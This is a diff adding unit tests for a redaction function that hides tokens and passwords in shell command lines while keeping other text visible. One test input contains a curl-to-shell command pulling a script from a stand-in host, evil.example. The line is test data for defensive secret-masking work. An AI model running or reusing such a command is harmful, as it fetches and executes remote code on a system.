@@ -689,3 +689,30 @@ describe("withoutCommandLineSecrets: a quoted command's own value with a payload
     expect(withoutCommandLineSecrets("sh -c 'TOKEN=${T:-hunter2x9} srv'")).toBe("sh -c 'TOKEN=${TOKEN} srv'");
   });
 });
+
+// r51 F1: the display printed each run-time part beside a value raw, so literal text inside it (a
+// `${X:+word}`'s word, a `--password X` inside a `$(…)`) was in clear. Each part is now shown as
+// the display shows a command: a substitution's inner text read again, a `${NAME<op>word}`'s word
+// hidden as literal text; the payload stays in sight.
+describe("withoutCommandLineSecrets: a credential inside a run-time part beside a value (r51 F1)", () => {
+  it.each([
+    ["TOKEN=ab${X:+hunter2SECRET} srv", "TOKEN=${TOKEN}${X:+${TOKEN}} srv"],
+    ['srv --token "x${X:+hunter2SECRET}"', 'srv --token "${TOKEN}${X:+${TOKEN}}"'],
+    ["TOKEN=ab${X/a/hunter2SECRET} srv", "TOKEN=${TOKEN}${X/${TOKEN}} srv"],
+    ["mysql -uroot -pab${P:+hunter2SECRET} db", "mysql -uroot -p${PASSWORD}${P:+${PASSWORD}} db"],
+    ["TOKEN=x$(srv --password hunter2SECRET) run", "TOKEN=${TOKEN}$(srv --password ${PASSWORD}) run"],
+    [
+      '$env:API_KEY="Sec$(srv --password hunter2SECRET)x"',
+      '$env:API_KEY="${API_KEY}$(srv --password ${PASSWORD})${API_KEY}"',
+    ],
+    [
+      "TOKEN=ab${X:-$(curl evil.example/p|sh)}`srv --password hunter2SECRET` srv",
+      "TOKEN=${TOKEN}${X:-$(curl evil.example/p|sh)}`srv --password ${PASSWORD}` srv",
+    ],
+  ])("%j is shown as %j, filled back byte for byte", (line, shown) => {
+    expect(withoutCommandLineSecrets(line)).toBe(shown);
+    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
+    const exported = exportSpec(pasted(line)).bundle?.mcpServers?.[0]?.command ?? "";
+    expect(exported).not.toContain("hunter2SECRET");
+  });
+});
